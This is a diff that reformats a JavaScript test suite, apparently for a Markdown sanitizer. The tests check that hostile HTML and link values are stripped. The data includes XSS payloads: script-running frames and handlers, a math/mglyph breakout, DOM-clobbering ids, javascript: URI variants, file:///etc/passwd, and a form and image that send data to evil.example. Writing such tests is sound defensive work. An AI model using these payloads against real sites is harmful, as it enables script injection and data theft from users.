@@ -22,9 +22,11 @@ const hostile = {
   'a style sheet': '<style>body{display:none}</style><p style="position:fixed;inset:0">x</p>',
   'a form': '<form action="https://evil.example/"><input name="key"><button>Send</button></form>',
   'a frame': '<iframe srcdoc="<script>parent.harmed()</script>"></iframe>',
-  'a base and a refresh': '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
+  'a base and a refresh':
+    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
   'an object and an embed': '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
-  'math that breaks out': '<math><mtext><table><mglyph><style><img src=x onerror=window.harmed()></style></mglyph></table></mtext></math>',
+  'math that breaks out':
+    '<math><mtext><table><mglyph><style><img src=x onerror=window.harmed()></style></mglyph></table></mtext></math>',
   'a handler broken over lines': '<details open ontoggle\n=\nwindow.harmed()>x</details>',
   'names that shadow the document': '<a id="getElementById" name="cookie">x</a>',
   'a remote image in Markdown': '![secret](https://evil.example/?leak=1)',
@@ -41,7 +43,11 @@ describe('the markdown door', () => {
       const seen = performance.getEntriesByType('resource').length;
       const place = await live(source);
       expect(harmed).not.toHaveBeenCalled();
-      expect(place.querySelector('script,style,img,svg,math,form,input,button,iframe,object,embed,base,meta,link,video,audio')).toBeNull();
+      expect(
+        place.querySelector(
+          'script,style,img,svg,math,form,input,button,iframe,object,embed,base,meta,link,video,audio',
+        ),
+      ).toBeNull();
       for (const element of place.querySelectorAll('*')) {
         const names = element.getAttributeNames();
         expect(names.filter((name) => /^on|style|^id$|^name$|src/i.test(name))).toEqual([]);
@@ -51,7 +57,16 @@ describe('the markdown door', () => {
     });
   }
 
-  for (const href of ['javascript:harmed()', 'JaVaScRiPt:harmed()', 'java&#10;script:harmed()', 'data:text/html,x', 'vbscript:x', '//evil.example', '#/settings', 'file:///etc/passwd']) {
+  for (const href of [
+    'javascript:harmed()',
+    'JaVaScRiPt:harmed()',
+    'java&#10;script:harmed()',
+    'data:text/html,x',
+    'vbscript:x',
+    '//evil.example',
+    '#/settings',
+    'file:///etc/passwd',
+  ]) {
     it(`makes no link of ${href}`, async () => {
       const place = await live(`[press](<${href}>)`);
       expect(place.querySelector('a[href]')).toBeNull();
